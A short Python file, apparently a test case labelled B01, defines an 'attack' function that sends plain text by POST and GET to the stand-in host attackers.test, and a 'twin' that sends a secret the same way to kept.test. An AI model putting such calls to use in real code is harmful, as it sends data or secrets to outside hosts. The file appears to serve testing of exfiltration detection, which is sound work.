"""B01: post it to a host of one's own."""


def attack(hands):
    text = hands.plain().encode()
    hands.http("POST", "https://attackers.test/drop", text)
    hands.http("GET", f"http://attackers.test/?q={text.decode()}")


def twin(hands):
    text = hands.secret().encode()
    hands.http("POST", "https://kept.test/drop", text)
    hands.http("GET", f"http://kept.test/?q={text.decode()}")
